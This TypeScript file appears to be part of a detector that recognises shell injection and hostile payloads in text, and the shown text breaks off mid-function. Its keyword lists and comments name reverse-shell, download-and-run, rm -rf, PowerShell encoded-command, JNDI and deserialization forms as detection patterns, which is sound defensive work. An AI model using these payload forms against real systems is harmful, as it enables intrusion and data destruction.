import {
  BARE,
  EMPTY_WORD,
  findWord,
  hashByte,
  lower,
  NAMED,
  PLAIN,
  SHELL,
  SURE,
  TARGET,
  word,
  WORD_CLASS,
  WORD_TEXT,
  wordsOf,
} from "./keywords.ts";
import type { Pattern } from "./pattern.ts";
import {
  ADDRESS,
  argumentKind,
  BACKTICK,
  BEGINNING,
  commandContext,
  ENDS,
  EXPANSION,
  FILE,
  hasProgramPath,
  isAlone,
  isDoubled,
  isRow,
  isShell,
  isTable,
  LINE_BREAK,
  nameEndsAt,
  NO_ARGUMENT,
  NOWHERE,
  NUMERAL,
  OPTION,
  PATH,
  PIPE,
  PLAIN_WORD,
  QUOTED,
  SEMICOLON,
  separatorAt,
  standsAlone,
  SUBSTITUTION,
  takesNumber,
  URL,
} from "./shell_grammar.ts";
import { BOUND, IN_TAG, LINE, NUMBER, type Tokens, WORD } from "./tokens.ts";

const RM = word("rm");
const IFS = word("ifs");

const USER = word("user");
const BIN = word("bin"), SBIN = word("sbin"), I_WORD = word("i"), C_WORD = word("c"), E_WORD = word("e");
const R_WORD = word("r"), K_WORD = word("k"), LC_WORD = word("lc"), IEX = word("iex");
const DOWNLOADSTRING = word("downloadstring"), DOWNLOADFILE = word("downloadfile"), COMSPEC = word("comspec");
const TCP = word("tcp"), UDP = word("udp"), DEV = word("dev"), SOCAT = word("socat"), EXEC = word("exec");
const MKFIFO = word("mkfifo"), TELNET = word("telnet"), CMD = word("cmd"), SUDO = word("sudo");
const CHMOD = word("chmod"), SHELL_WORD = word("shell"), ETC = word("etc"), ROOT = word("root");
const VAR = word("var"), TMP = word("tmp"), USR = word("usr"), JNDI = word("jndi"), LOWER = word("lower");
const UPPER = word("upper"), GETRUNTIME = word("getruntime"), PROCESSBUILDER = word("processbuilder");
const CHILD_PROCESS = word("child_process"), REQUIRE = word("require"), MAINMODULE = word("mainmodule");
const DUNDER_IMPORT = word("__import__"), ECHO = word("echo"), CAT = word("cat"), NET = word("net");
const POWERSHELL_OPTIONS = new Set(
  [
    "e",
    "ec",
    "enc",
    "encodedcommand",
    "nop",
    "noprofile",
    "noni",
    "noninteractive",
    "w",
    "windowstyle",
    "c",
    "command",
    "exec",
    "executionpolicy",
    "ep",
    "f",
    "file",
    "hidden",
  ].map(word),
);
const REMOVAL_OPTIONS = new Set(["r", "rf", "fr", "f", "rrf", "rfv", "vrf", "rvf"].map(word));
const LISTEN_OPTIONS = new Set(["l", "lp", "lvp", "nlvp", "lvnp", "lnvp", "lvnpe"].map(word));
const LOOKUP_SCHEMES = new Set(
  ["ldap", "ldaps", "rmi", "dns", "iiop", "corba", "nis", "nds", "http", "https"].map(word),
);
const LOOKUPS = new Set(
  [
    "env",
    "sys",
    "ctx",
    "date",
    "main",
    "java",
    "base64",
    "bundle",
    "log4j",
    "marker",
    "map",
    "spring",
    "k8s",
    "docker",
    "web_inf",
  ].map(word),
);
const INIT = word("init"), EXPORT = word("export"), SERVICE = word("service"), ID = word("id"), HOME = word("home");
const EXE = word("exe"), FROMBASE64STRING = word("frombase64string"), DIAGNOSTICS = word("diagnostics");
const REFLECTION = word("reflection"), INVOKE = word("invoke"), EXPRESSION = word("expression"), START = word("start");
const WMIMETHOD = word("wmimethod"), CIMMETHOD = word("cimmethod"), WEBREQUEST = word("webrequest");
const RESTMETHOD = word("restmethod"), COMMAND = word("command"), PROCESS = word("process"), REMOVE = word("remove");
const ITEM = word("item"), NEW = word("new"), OBJECT = word("object"), SYSTEM = word("system"), SET = word("set");
const MPPREFERENCE = word("mppreference"), FI = word("fi"), DONE = word("done"), THEN = word("then"), DO = word("do");
const IN = word("in"), EVAL = word("eval"), ASSERT = word("assert"), IMPORT = word("import"), CALL = word("call");
const RUN = word("run"), RUBY = word("ruby"), PYTHON = word("python"), JAVAX = word("javax"), JAVA = word("java");
const COM = word("com"), JDBCROWSETIMPL = word("jdbcrowsetimpl"), OBJECTDATAPROVIDER = word("objectdataprovider");
const BUSYBOX = word("busybox"), DNS = word("dns"), UTF = word("utf");
const TEXT_LOOKUPS = new Set(["url", "dns", "script", "file"].map(word));
const SUPERGLOBALS = new Set(["_get", "_post", "_request", "_cookie"].map(word));
const RUNS_TEXT = new Set(["system", "popen", "exec", "eval"].map(word));
const DECODERS = new Set(["base64_decode", "compile", "gzinflate", "str_rot13", "atob"].map(word));
/** SURE, but numbers and signs stand behind them in other texts. */
const NO_LINE = new Set(
  ["reg", "printf", "attrib", "hostname", "mkdir", "rmdir", "xxd", "uptime", "wg", "ufw"].map(word),
);
const SCRIPTBLOCK = word("scriptblock"), STOP = word("stop"), RESTART = word("restart"), GET = word("get");
const ADD = word("add"), CONTENT = word("content"), CHILDITEM = word("childitem"), COMPUTER = word("computer");
const EXECUTIONPOLICY = word("executionpolicy");
const TRAP = word("trap");
const INET = word("inet"), IP = word("ip");
const SLASH = 0x2f,
  BACKSLASH = 0x5c,
  DOLLAR = 0x24,
  OPEN = 0x28,
  CLOSE = 0x29,
  BRACE = 0x7b,
  CLOSE_BRACE = 0x7d,
  COLON = 0x3a,
  MINUS = 0x2d,
  EQUALS = 0x3d,
  DOT = 0x2e;

/** `; rm -rf /`, `| sh`, `$(id)`: a program behind a separator of the shell. */
function isCommand(t: Tokens, i: number): boolean {
  const context = commandContext(t, i);
  if (context === NOWHERE) return false;
  if (context === BEGINNING) {
    // A text of nothing but a line break and `id`.
    return ((t.flags[i] as number) & LINE) !== 0 && standsAlone(t.bits[i] as number) && t.kind[i + 1] === BOUND &&
      t.kind[i - 1] === BOUND;
  }
  const bits = t.bits[i] as number;
  const behind = nameEndsAt(t, i);
  const argument = argumentKind(t, behind, context);
  if (argument === NO_ARGUMENT) return false;
  const isSure = (bits & SURE) !== 0;
  const isNamed = (bits & NAMED) !== 0;
  if (context === SUBSTITUTION) {
    // $(id).addClass(…) is jQuery.
    return argument !== ENDS || t.kind[behind] !== CLOSE || t.kind[separatorAt] !== DOLLAR ||
      (t.kind[behind + 1] !== DOT && t.kind[behind + 1] !== 0x5b && t.kind[behind + 1] !== SEMICOLON);
  }
  if (context === BACKTICK) return isSubstituted(t, i, argument);
  if (context === LINE_BREAK) {
    // Lines of logs and of source code begin with such words too: only what looks like nothing else counts.
    if (argument === ENDS) return (isSure && standsAlone(bits)) || isShortSecondLine(t, i);
    if (argument === OPTION || argument === URL || argument === EXPANSION) return true;
    return (argument === PATH && isKnownPath(t, behind)) || (argument === QUOTED && isSure);
  }
  switch (argument) {
    case ENDS:
      if (hasProgramPath) return true;
      if (isAlone(t, i)) return true;
      if (!standsAlone(bits)) return false;
      if (isDoubled && t.kind[behind] !== BOUND && t.kind[behind] !== PIPE && t.kind[behind] !== 0x23) return isSure;
      return (isSure && !isRow(t)) || !(isTable(t, i) || endsSentence(t, bits));
    case FILE:
      // eth0; ip 10.0.0.5
      return t.word[i] !== IP || t.kind[behind] !== NUMBER;
    case OPTION:
    case PATH:
    case URL:
    case EXPANSION:
      return true;
    case ADDRESS:
      return isSure || isNamed || context !== SEMICOLON;
    case QUOTED:
      return isSure || isNamed || t.word[i] === ECHO || t.word[i] === CAT || t.kind[behind] === 0x3c;
    case NUMERAL:
      return (takesNumber(bits) || isSure || t.word[i] === ECHO || t.word[i] === INIT) && isLast(t, behind) &&
        !isTable(t, i) && !isBacklog(t, i);
    case PLAIN_WORD:
      if (VERBS.get(t.word[i] as number)?.has(t.word[behind] as number) === true) return !isTable(t, i);
      if (t.word[i] === TRAP) return t.glued(i) && isLast(t, behind + 1);
      if (t.word[i] === EXPORT) return t.kind[behind + 1] === EQUALS && t.glued(behind + 1);
      if (t.word[i] === SERVICE) return SERVICE_VERBS.has(t.word[behind + 1] as number) && isLast(t, behind + 1);
      if (isSure && t.kind[behind + 1] === COLON && t.glued(behind + 1)) return true;
      if (isNamed && (t.kind[behind + 1] === EQUALS || hasArgument(t, behind + 1))) return true;
      if (isSure) return isLast(t, behind) || isLast(t, behind + 1) || hasArgument(t, behind + 1);
      if (t.word[i] === NET) return t.word[behind] === USER || hasArgument(t, behind + 1);
      return (t.word[i] === ECHO || isShell(bits)) && isLast(t, behind) && !isTable(t, i);
  }
  return false;
}

/** Programs whose second word says that they are meant as programs. */
const VERBS: ReadonlyMap<number, ReadonlySet<number>> = new Map(
  ([
    ["apt yum dnf apk opkg pip pip3 npm snap brew cargo", "install remove uninstall update upgrade add del"],
    ["docker podman", "run exec stop rm kill pull build start"],
    ["kubectl", "get delete create apply exec run"],
    ["git", "clone pull push"],
    ["redis", "flushall flushdb config set"],
    ["aws gcloud az", "s3 config"],
    ["ps", "aux ef"],
    ["su", "root admin"],
    ["sudo", "su reboot sh bash"],
    ["passwd", "root admin"],
    ["ip", "addr a address link l route r neigh"],
    ["shutdown", "now"],
    ["net", "user start stop view share use localgroup accounts"],
    ["wmic", "process os"],
    ["sc", "stop start create delete config query"],
    ["uci nvram gpio", "set show get commit delete write read export"],
    ["mtd", "erase write unlock"],
    ["netsh", "advfirewall firewall wlan interface"],
    ["ufw", "disable"],
    ["make", "install"],
    ["ubus", "call list"],
    ["route", "add del delete print"],
    ["arp", "a"],
  ] as const).flatMap(([programs, verbs]) => {
    const set = new Set(verbs.split(" ").map(word));
    return programs.split(" ").map((program): [number, ReadonlySet<number>] => [word(program), set]);
  }),
);
const SERVICE_VERBS = new Set(["start", "stop", "restart", "status"].map(word));

/** `dev1⏎id`: a second line that is nothing but a command, behind a first one of one word. */
function isShortSecondLine(t: Tokens, i: number): boolean {
  const isLone = t.kind[separatorAt] === WORD && t.kind[separatorAt - 1] === BOUND && t.kind[i + 1] === BOUND;
  return isLone && (t.word[i] === ID || hasProgramPath);
}

/** A program of at most three letters. */
function isShortCommand(t: Tokens, i: number): boolean {
  return t.end[i]! - t.start[i]! <= 3 && isCommand(t, i);
}

function isLongCommand(t: Tokens, i: number): boolean {
  return t.end[i]! - t.start[i]! > 3 && isCommand(t, i);
}

/** `timeout; reboot`: the separator is the punctuation of a sentence, and the command one of its words. */
function endsSentence(t: Tokens, bits: number): boolean {
  // x.bin; reboot: behind the name of a file or a host.
  if (t.kind[separatorAt - 2] === DOT && t.glued(separatorAt - 1) && t.glued(separatorAt - 2)) return false;
  return (bits & PLAIN) !== 0 && t.kind[separatorAt] === SEMICOLON && t.kind[separatorAt - 1] === WORD &&
    t.glued(separatorAt) && t.spaced(separatorAt + 1) && t.end[separatorAt - 1]! - t.start[separatorAt - 1]! > 2;
}

/** An option or a path stands in the rest of the command. */
function hasArgument(t: Tokens, from: number): boolean {
  for (let at = from; at < from + 8; at++) {
    const kind = t.kind[at] as number;
    if (kind === BOUND || kind === SEMICOLON || kind === PIPE) return false;
    if (kind === SLASH && t.spaced(at) && t.glued(at + 1)) return true;
    if (kind === MINUS && t.spaced(at) && t.glued(at + 1) && t.kind[at + 1] === WORD) return true;
    if (kind === COLON && t.kind[at + 1] === SLASH && t.glued(at) && t.glued(at + 1)) return true;
  }
  return false;
}

/** `/etc/x`, `~/x`, `./x`: a path as a system has it. */
function isKnownPath(t: Tokens, i: number): boolean {
  if (t.kind[i] === SLASH) {
    return ((t.bits[i + 1] as number) & TARGET) !== 0 || t.kind[i + 1] === BOUND || t.kind[i + 1] === 0x2a;
  }
  if (t.kind[i] === WORD) return false;
  return t.kind[i + 1] === SLASH || t.kind[i] === 0x3c || t.kind[i] === 0x3e;
}

/** Nothing but separators follows the one argument at `at`. */
function isLast(t: Tokens, at: number): boolean {
  const next = t.kind[at + 1] as number;
  return next === BOUND || next === SEMICOLON || next === PIPE || next === 0x26 || next === BACKTICK || next === 0x23 ||
    next === 0x3e || ((t.flags[at + 1] as number) & LINE) !== 0 || (next === 0x3c && t.kind[at + 2] === SLASH);
}

/** A command in backticks that are no Markdown: glued to a value, or the whole text. */
function isSubstituted(t: Tokens, i: number, argument: number): boolean {
  const opener = separatorAt;
  if (argument === PLAIN_WORD && ((t.bits[i] as number) & PLAIN) !== 0) return false;
  if (t.kind[opener - 1] === BACKTICK || t.kind[opener + 1] === BACKTICK) return false;
  let closer = i + 1;
  while (closer < i + 24 && t.kind[closer] !== BACKTICK && t.kind[closer] !== BOUND) closer++;
  if (t.kind[closer] !== BACKTICK) return false;
  const before = t.kind[opener - 1] as number;
  if (before === BOUND) return t.kind[closer + 1] === BOUND;
  // Markdown behind a semicolon, in a cell of a table.
  const isMarkdown = t.spaced(opener) && (before === SEMICOLON || before === PIPE || before === 0x26);
  if (isMarkdown && t.kind[closer + 1] !== BOUND) return false;
  return (t.glued(opener) && (before === WORD || before === NUMBER)) || before === SEMICOLON || before === PIPE ||
    before === 0x26 || (before === OPEN && t.kind[opener - 2] === OPEN) ||
    before === 0x3d || before === DOLLAR;
}

/** `Backlog Power1 ON; Sleep 50`: commands of Tasmota, where Sleep saves energy. */
function isBacklog(t: Tokens, i: number): boolean {
  for (let at = i - 1; at > i - 48 && t.kind[at] !== BOUND; at--) if (BACKLOG.has(t.word[at] as number)) return true;
  return false;
}
const BACKLOG = new Set(["backlog", "backlog0", "backlog2", "backlog3"].map(word));

/** `(root) CMD (cd /opt && ./x)`: what cron says that it runs. */
function isCronLine(t: Tokens, i: number): boolean {
  for (let at = i - 1; at > i - 40 && t.kind[at] !== BOUND; at--) {
    if (t.word[at] === CMD && t.kind[at + 1] === OPEN && t.kind[at - 1] === CLOSE) return true;
  }
  return false;
}

/** A path of a program, a script or a variable behind a separator: `;/tmp/x`, `|/bin/busybox`, `;$a$b`, `;./x.sh`. */
function isPathRun(t: Tokens, i: number): boolean {
  if (t.kind[i] === 0x7e) {
    // ;~/x
    return t.kind[i + 1] === SLASH && t.kind[i + 2] === WORD && t.glued(i + 1) && t.glued(i + 2) &&
      (t.kind[i - 1] === SEMICOLON || t.kind[i - 1] === PIPE || (t.kind[i - 1] === 0x26 && t.kind[i - 2] === 0x26)) &&
      (t.kind[i + 3] === BOUND || t.spaced(i + 3) || t.kind[i + 3] === DOT);
  }
  if (isCronLine(t, i)) return false;
  if (t.kind[i] === DOT) {
    // ;../x
    if (t.kind[i - 1] === DOT && t.kind[i - 2] === SEMICOLON && t.kind[i - 3] === BOUND) {
      return t.kind[i + 1] === SLASH && t.kind[i + 2] === WORD;
    }
    // ;./x.sh
    if (t.kind[i + 1] !== SLASH || t.kind[i + 2] !== WORD || !t.glued(i + 1) || !t.glued(i + 2)) return false;
    if (t.kind[i - 1] === 0x26 && t.kind[i - 2] !== 0x26 && !t.spaced(i)) return false;
    return t.kind[i - 1] === SEMICOLON || t.kind[i - 1] === PIPE || t.kind[i - 1] === 0x26 ||
      t.kind[i - 1] === BACKTICK;
  }
  if (t.kind[i - 1] !== SLASH || t.kind[i + 1] !== SLASH || !t.glued(i) || !t.glued(i + 1)) return false;
  // ;/etc/init.d/x
  if (t.word[i] === ETC && t.word[i + 2] !== INIT) return false;
  let at = i - 1;
  for (let n = 0; n < 4 && t.kind[at - 1] === WORD && t.kind[at - 2] === SLASH && t.glued(at); n++) at -= 2;
  // ;. /tmp/x.sh
  if (t.kind[at - 1] === DOT && t.spaced(at)) at--;
  const before = t.kind[at - 1] as number;
  if (before === SEMICOLON || before === PIPE) {
    return t.kind[i + 2] === WORD || t.kind[i + 2] === 0x3f || t.kind[i + 2] === 0x2a;
  }
  if (before === 0x26) return t.kind[at - 2] === 0x26;
  if (before === OPEN) return t.kind[at - 2] === DOLLAR;
  return before === BACKTICK;
}

/** Begins of commands that are dangerous wherever they stand. */
function isShellWithCode(t: Tokens, i: number): boolean {
  let behind = nameEndsAt(t, i);
  // ["sh","-c","…"]
  if (t.kind[behind] === BOUND && t.kind[behind + 1] === 0x2c && t.kind[behind + 2] === BOUND) {
    return isShell(t.bits[i] as number) && t.kind[behind + 3] === MINUS && t.word[behind + 4] === C_WORD &&
      t.kind[behind + 5] === BOUND && t.kind[behind + 6] === 0x2c;
  }
  if (t.kind[behind] !== MINUS || !t.spaced(behind) || !t.glued(behind + 1)) return false;
  // ruby -rsocket -e'…'
  if (t.kind[behind + 2] === MINUS && t.spaced(behind + 2) && t.glued(behind + 3) && t.isQuote(behind + 4)) behind += 2;
  const option = t.word[behind + 1] as number;
  if (option === I_WORD) {
    return t.kind[behind + 2] === 0x3e || t.kind[behind + 2] === 0x26 ||
      (t.kind[behind + 2] === NUMBER && t.kind[behind + 3] === 0x3e);
  }
  if (option !== C_WORD && option !== E_WORD && option !== R_WORD && option !== LC_WORD) return false;
  const code = t.kind[behind + 2] as number;
  if (code !== 0x27 && code !== 0x22 && code !== DOLLAR && code !== BACKTICK) return false;
  return isShell(t.bits[i] as number) || code !== 0x22 || t.kind[behind + 3] === WORD;
}

function isPowerShell(t: Tokens, i: number): boolean {
  const behind = nameEndsAt(t, i);
  // Any of the first options: powershell -nop -w hidden -enc …
  for (let at = behind, n = 0; n < 3; n++, at += 3) {
    if ((t.kind[at] !== MINUS && t.kind[at] !== SLASH) || !t.glued(at + 1)) {
      return t.word[at] === IEX || (n === 0 && t.isQuote(at) && isDownload(t, at + 1));
    }
    if (POWERSHELL_OPTIONS.has(t.word[at + 1] as number)) return true;
  }
  return false;
}

function isDownload(t: Tokens, from: number): boolean {
  for (let at = from; at < from + 24; at++) if (t.word[at] === DOWNLOADSTRING || t.word[at] === IEX) return true;
  return false;
}

/** `Invoke-Expression …`, `Start-Process x.exe`, `Remove-Item -Recurse`, `[Diagnostics.Process]::Start(`. */
function isCmdlet(t: Tokens, i: number): boolean {
  const number = t.word[i] as number;
  if (number === FROMBASE64STRING) return t.kind[i - 1] === COLON && t.kind[i + 1] === OPEN;
  if (number === DIAGNOSTICS || number === REFLECTION || number === SCRIPTBLOCK) {
    // @(System.Diagnostics.Process.Start("cmd"))
    if (t.word[i + 2] === PROCESS && t.word[i + 4] === START && t.kind[i + 5] === OPEN) return true;
    for (let at = i + 1; at < i + 8; at++) if (t.kind[at] === 0x5d) return t.kind[at + 1] === COLON;
    return false;
  }
  if (t.kind[i + 1] !== MINUS || !t.glued(i + 1) || !t.glued(i + 2)) return false;
  const noun = t.word[i + 2] as number;
  const argument = argumentKind(t, i + 3, SEMICOLON);
  // As PowerShell writes it: what follows need not look like an argument.
  const isCapital = isUpper(t, i) && isUpper(t, i + 2) && argument !== NO_ARGUMENT && argument !== ENDS;
  switch (number) {
    case INVOKE:
      if (noun === EXPRESSION || noun === WMIMETHOD || noun === CIMMETHOD) {
        return argument !== ENDS || t.kind[i - 1] === PIPE;
      }
      return (noun === WEBREQUEST || noun === RESTMETHOD || noun === COMMAND) &&
        (argument === URL || argument === OPTION || argument === QUOTED || argument === EXPANSION || isCapital);
    case START:
      return (noun === PROCESS || noun === SERVICE) &&
        (argument === FILE || argument === QUOTED || argument === OPTION || argument === PATH || isCapital);
    case STOP:
    case RESTART:
      return (noun === PROCESS || noun === SERVICE || noun === COMPUTER) && (isCapital || argument === OPTION);
    case GET:
      return (noun === CONTENT || noun === CHILDITEM || noun === PROCESS || noun === SERVICE || noun === ITEM) &&
        (argument === PATH || argument === OPTION) && isCapital;
    case REMOVE:
      return noun === ITEM && (argument === OPTION || argument === PATH || argument === QUOTED || isCapital);
    case NEW:
      if (noun !== OBJECT) return false;
      return argument === OPTION || ((t.word[i + 3] === NET || t.word[i + 3] === SYSTEM) && t.kind[i + 4] === DOT);
    case ADD:
    case SET:
      return noun === MPPREFERENCE || (noun === EXECUTIONPOLICY && isCapital);
  }
  return false;
}

function isUpper(t: Tokens, i: number): boolean {
  const first = t.bytes[t.start[i] as number] as number;
  return first >= 0x41 && first <= 0x5a;
}

/** `=WEBSERVICE("http://…")`, `=DDE("cmd";…)`: cells of a spreadsheet that reach out. */
function isFormula(t: Tokens, i: number): boolean {
  const before = t.kind[i - 1] as number;
  if (t.kind[i + 1] !== OPEN || (before !== EQUALS && before !== 0x2b && before !== MINUS && before !== 0x40)) {
    return false;
  }
  return t.kind[i - 2] === BOUND || t.isQuote(i - 2) || t.kind[i - 2] === 0x2c || t.kind[i - 2] === SEMICOLON;
}

/** `; while true; do …; done`: a loop or a condition of a shell in one line. */
function isShellBlock(t: Tokens, i: number): boolean {
  if (t.kind[i - 1] !== SEMICOLON || (t.kind[i + 1] === WORD && ((t.flags[i + 1] as number) & LINE) === 0)) {
    return false;
  }
  const opener = t.word[i] === FI ? THEN : t.word[i] === DONE ? DO : IN;
  for (let at = i - 2; at > i - 40 && t.kind[at] !== BOUND; at--) {
    if (t.word[at] === opener) return true;
  }
  return false;
}

/** `%0aid`, `%0d%0aid`: a line break written so, and a command alone. */
function isEncodedLineBreak(t: Tokens, i: number): boolean {
  const { bytes } = t;
  let at = t.start[i] as number;
  if (bytes[at + 1] !== 0x30 || ((bytes[at + 2] as number) | 0x20) !== 0x61) return false;
  at += 3;
  let hash = EMPTY_WORD;
  let end = at;
  for (; end < at + 16; end++) {
    const low = lower(bytes[end] ?? 0);
    if ((low < 0x61 || low > 0x7a) && low !== 0x5f) break;
    hash = hashByte(hash, low);
  }
  if (end === at || !standsAlone(WORD_CLASS[findWord(bytes, at, end, hash)] as number)) return false;
  // The end, white space, or a separator, encoded or not.
  const next = bytes[end] ?? 0;
  if (next !== 0x25) return next <= 0x20 || next === 0xff || ";|&#\"'".includes(String.fromCharCode(next));
  const first = bytes[end + 1] ?? 0;
  const second = (bytes[end + 2] ?? 0) | 0x20;
  return first === 0x30 || (first === 0x32 && (second === 0x36 || second === 0x33)) ||
    (first === 0x37 && second === 0x63) || (first === 0x33 && second === 0x62);
}

/** A string handed to what runs it, whose first word is a program: `os.system('id')`, `exec("cat /etc/x")`. */
function isProgramCall(t: Tokens, i: number): boolean {
  // Ruby: %x(id)
  if (t.kind[i] === 0x25) {
    return t.end[i + 1]! - t.start[i + 1]! === 1 && t.kind[i + 2] === OPEN && t.glued(i + 2) &&
      ((t.bits[i + 3] as number) & (SURE | BARE)) !== 0 && (t.kind[i + 4] === CLOSE || t.spaced(i + 4));
  }
  if (t.kind[i + 1] !== OPEN || !t.glued(i + 1)) return false;
  let at = i + 2;
  if (t.kind[at] === 0x5b) at++;
  const number = t.word[i] as number;
  if (number === EVAL || number === ASSERT) {
    return DECODERS.has(t.word[at] as number) && t.kind[at + 1] === OPEN;
  }
  // PHP: system($_GET['c'])
  if (t.kind[at] === DOLLAR) return SUPERGLOBALS.has(t.word[at + 1] as number);
  if (number === CMD && t.kind[i - 1] !== COLON) return false;
  if (!t.isQuote(at) && t.kind[at] !== BOUND) return false;
  while (t.isQuote(at) || t.kind[at] === BACKSLASH) at++;
  if (t.kind[at] === SLASH) return ((t.bits[at + 1] as number) & TARGET) !== 0;
  if (t.word[at] === IMPORT) return number === EXEC;
  const bits = t.bits[at] as number;
  if (t.word[at] === ID) return number !== CALL && number !== RUN;
  return (bits & SURE) !== 0 || ((bits & (NAMED | PLAIN)) !== 0 && (bits & BARE) !== 0);
}

/** Objects that are made again from a text, and run code in doing so: `!!python/object/apply`, `O:8:"X":1:{`. */
function isSerializedObject(t: Tokens, i: number): boolean {
  // Python's pickle: cos⏎system⏎(S'id'
  if (t.kind[i] === OPEN) {
    return t.kind[i + 2] === 0x27 && t.end[i + 1]! - t.start[i + 1]! === 1 && ((t.flags[i] as number) & LINE) !== 0 &&
      ((t.flags[i - 1] as number) & LINE) !== 0 && RUNS_TEXT.has(t.word[i - 1] as number);
  }
  if (t.kind[i] === 0x21) {
    const at = t.kind[i + 1] === 0x21 ? i + 2 : i + 1;
    const language = t.word[at] as number;
    if (t.kind[i + 1] !== 0x21) return language === RUBY && t.kind[at + 1] === SLASH && t.word[at + 2] === OBJECT;
    if (language === PYTHON || language === RUBY) return t.kind[at + 1] === SLASH;
    return (language === JAVAX || language === JAVA || language === COM) && t.kind[at + 1] === DOT;
  }
  if (t.word[i] === JDBCROWSETIMPL || t.word[i] === OBJECTDATAPROVIDER) return t.kind[i - 1] === DOT;
  // O:8:"stdClass":1:{
  return t.kind[i + 1] === COLON && t.kind[i + 2] === NUMBER && t.kind[i + 3] === COLON && t.glued(i + 1) &&
    t.glued(i + 3) && (t.isQuote(i + 4) || t.kind[i + 4] === BACKSLASH || t.kind[i + 4] === BOUND);
}

/** A command line without anything before it, of a program that no text names otherwise. */
function isCommandLine(t: Tokens, i: number): boolean {
  if (commandContext(t, i) !== BEGINNING) return false;
  const behind = nameEndsAt(t, i);
  if (t.word[i] === BUSYBOX && hasProgramPath) return t.kind[behind] === WORD && t.spaced(behind);
  if (NO_LINE.has(t.word[i] as number)) return false;
  const argument = argumentKind(t, behind, BEGINNING);
  if (argument === PLAIN_WORD) {
    return VERBS.get(t.word[i] as number)?.has(t.word[behind] as number) === true || hasArgument(t, behind + 1);
  }
  // A negative number is no option.
  if (argument === OPTION) return t.kind[behind + 1] !== NUMBER;
  // In base64, `+` and `/` are letters.
  if (argument === PATH && t.end[i]! - t.start[i]! <= 3 && !isKnownPath(t, behind)) return false;
  return argument === URL || (argument === PATH && t.kind[behind] !== 0x2a) ||
    argument === EXPANSION;
}

function isInvokeExpression(t: Tokens, i: number): boolean {
  if (t.word[i] === DOWNLOADSTRING || t.word[i] === DOWNLOADFILE) {
    return t.kind[i + 1] === OPEN && t.kind[i - 1] === DOT;
  }
  // iex "whoami"
  if (t.isQuote(i + 1) && t.spaced(i + 1)) return commandContext(t, i) !== NOWHERE;
  return (t.kind[i + 1] === OPEN && t.kind[i - 1] !== DOT) || (t.kind[i - 1] === PIPE && t.kind[i + 1] === BOUND);
}

function isWindowsShell(t: Tokens, i: number): boolean {
  // %COMSPEC% /c
  if (t.word[i] === COMSPEC) return t.kind[i - 1] === 0x25 && t.kind[i + 1] === 0x25;
  // & calc.exe
  if (t.word[i] === EXE) {
    if (t.kind[i - 1] !== DOT || t.kind[i - 2] !== WORD || !t.glued(i) || !t.glued(i - 1)) return false;
    const before = t.kind[i - 3] as number;
    const isEnd = t.kind[i + 1] === BOUND || t.spaced(i + 1) || t.kind[i + 1] === 0x26 || t.kind[i + 1] === PIPE;
    if (before === PIPE || before === 0x26) return isEnd && t.kind[i - 4] !== EQUALS;
    return before === SEMICOLON && t.glued(i - 2) && isEnd;
  }
  const behind = nameEndsAt(t, i);
  // =cmd|'/c calc'!A0
  if (
    t.kind[behind] === PIPE &&
    (t.kind[i - 1] === 0x3d || t.kind[i - 1] === 0x2b || t.kind[i - 1] === MINUS || t.kind[i - 1] === 0x2a ||
      t.kind[i - 1] === 0x40)
  ) {
    return t.isQuote(behind + 1) || t.kind[behind + 1] === SLASH;
  }
  if (t.kind[behind] !== SLASH || !t.glued(behind + 1)) return false;
  const option = t.word[behind + 1] as number;
  return option === C_WORD || option === K_WORD || option === R_WORD;
}

function isRemoval(t: Tokens, i: number): boolean {
  if (t.kind[i + 1] !== MINUS || !t.spaced(i + 1) || !REMOVAL_OPTIONS.has(t.word[i + 2] as number)) {
    // rm --no-preserve-root
    return t.kind[i + 1] === MINUS && t.kind[i + 2] === MINUS && t.kind[i + 4] === MINUS;
  }
  for (let at = i + 3; at < i + 9; at++) {
    const kind = t.kind[at] as number;
    if (kind === SLASH || kind === 0x7e || kind === 0x2a || kind === DOLLAR || kind === DOT) return true;
    if (kind === BOUND || kind === SEMICOLON) return at > i + 3;
  }
  return true;
}

function isReverseShell(t: Tokens, i: number): boolean {
  const number = t.word[i] as number;
  if (number === TCP || number === UDP) {
    // awk has /inet/tcp/
    return t.kind[i - 1] === SLASH && (t.word[i - 2] === DEV || t.word[i - 2] === INET) && t.kind[i - 3] === SLASH &&
      t.kind[i + 1] === SLASH;
  }
  if (number === SOCAT) {
    for (let at = i + 1; at < i + 16; at++) if (t.word[at] === EXEC && t.kind[at + 1] === COLON) return true;
    return false;
  }
  if (number === MKFIFO) return t.kind[i + 1] === SLASH;
  if (number === TELNET) return false;
  // nc -e /bin/sh, nc -lvp 4444
  for (let at = i + 1; at < i + 12; at++) {
    const kind = t.kind[at] as number;
    if (kind === BOUND || kind === SEMICOLON) return false;
    if (kind !== MINUS || !t.spaced(at) || !t.glued(at + 1)) continue;
    const option = t.word[at + 1] as number;
    if (
      (option === E_WORD || option === C_WORD || option === EXEC) &&
      (t.kind[at + 2] === SLASH || isShell(t.bits[at + 2] as number) || t.word[at + 2] === CMD)
    ) return true;
    if (LISTEN_OPTIONS.has(option) && (t.kind[at + 2] === NUMBER || t.kind[at + 2] === MINUS)) return true;
  }
  return false;
}

/** wget or curl whose result is run: `-O- | sh`, `&& chmod +x`. */
function isDownloadAndRun(t: Tokens, i: number): boolean {
  let hasUrl = false;
  for (let at = i + 1; at < i + 48; at++) {
    const kind = t.kind[at] as number;
    if (kind === BOUND) return false;
    if (kind === COLON && t.kind[at + 1] === SLASH && t.kind[at + 2] === SLASH) hasUrl = true;
    if (kind !== PIPE && kind !== SEMICOLON && kind !== 0x26) continue;
    let next = at + 1;
    while (t.kind[next] === kind || (next < at + 5 && t.word[next] === SUDO)) next++;
    const bits = t.bits[next] as number;
    if (hasUrl && t.kind[next] === WORD && (isShell(bits) || t.word[next] === CHMOD || (bits & NAMED) !== 0)) {
      return true;
    }
    // The path of a program.
    if (hasUrl && kind === PIPE && t.kind[next] === SLASH) return true;
  }
  return false;
}

function isInternalFieldSeparator(t: Tokens, i: number): boolean {
  return t.kind[i - 1] === DOLLAR || (t.kind[i - 1] === BRACE && t.kind[i - 2] === DOLLAR);
}

/** `${PATH:0:1}`, `${a//x/y}`, `${!a}`: parts of variables, by which characters are written without writing them. */
function isExpansionTrick(t: Tokens, i: number): boolean {
  // $(</etc/x)
  if (t.kind[i + 1] === OPEN && t.kind[i + 2] === 0x3c && t.glued(i + 1) && t.glued(i + 2)) {
    return t.kind[i + 3] === SLASH || t.kind[i + 4] === SLASH;
  }
  if (t.kind[i + 1] !== BRACE || !t.glued(i + 1)) return false;
